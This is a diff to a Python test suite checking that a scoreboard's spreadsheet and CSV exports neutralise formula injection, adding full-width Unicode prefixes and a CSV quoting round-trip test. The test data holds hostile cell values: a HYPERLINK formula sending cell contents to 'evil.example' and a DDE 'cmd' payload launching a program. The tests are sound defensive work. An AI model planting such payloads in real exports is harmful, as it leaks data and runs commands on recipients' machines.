@@ -31,6 +31,11 @@ HOSTILE = ["-1-1", "-A1:B2", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1
         ("@A1", "'@A1"),
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
+        # The full-width forms a Chinese input method types.
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\uff0b1", "'\uff0b1"),
+        ("\uff0d1", "'\uff0d1"),
+        ("\uff20A1", "'\uff20A1"),
         ("V-1", "V-1"),
         ("", ""),
         (-5, -5),
@@ -99,6 +104,21 @@ async def test_the_scoreboard_exports_quote_a_hostile_hospital_name(
     assert sheet is not None
     cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == "=cmd|' /C calc'!A0"]
     assert [c.data_type for c in cells] == ["s"]
+
+
+async def test_a_csv_cell_round_trips_whatever_punctuation_it_holds() -> None:
+    """Separators, quotes and line breaks inside a cell are quoted as RFC 4180 says: a CSV
+    reader gets each cell back whole (formula-like text with its apostrophe)."""
+    cells = ["a,b", "x;y", 'say "hi"', "two\nlines", "cr\r\nlf", '=HYPERLINK("http://x")']
+    chunks = [
+        chunk
+        async for chunk in export.csv_stream(
+            ["text", "amount"], export.listed([[c, Decimal("-12.30")] for c in cells])
+        )
+    ]
+    text = b"".join(chunks).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[1:] == [[inert(c), "-12.30"] for c in cells]
 
 
 def test_a_negative_amount_stays_a_number_in_csv() -> None:
